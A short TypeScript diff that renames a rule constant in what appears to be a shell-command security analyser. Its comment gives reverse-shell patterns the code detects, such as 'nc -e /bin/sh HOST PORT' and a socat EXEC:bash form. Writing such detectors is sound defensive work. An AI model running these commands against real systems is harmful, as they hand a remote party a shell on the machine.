@@ -7,7 +7,7 @@ import type { NamedCommand, Runner } from "./runner.js";
 import { reportCommand, sinkOf } from "./sinks.js";
 import { silent, type Stream } from "./stream.js";
 
-const remoteShell = "bash/remote-shell";
+const REMOTE_SHELL_RULE = "bash/remote-shell";
 
 /** `nc -e /bin/sh HOST PORT`, `socat TCP:HOST:PORT EXEC:bash`: reports a shell that is connected to the other side of a connection. */
 export function runOnHost({ name, word, args, runner }: NamedCommand, role: Role): Stream | null {
@@ -36,7 +36,7 @@ export function runOnHost({ name, word, args, runner }: NamedCommand, role: Role
   reportCommand(
     runner,
     sinkOf(word, name, role),
-    remoteShell,
+    REMOTE_SHELL_RULE,
     end,
     `${name} connects a shell to the other end of the connection`,
   );
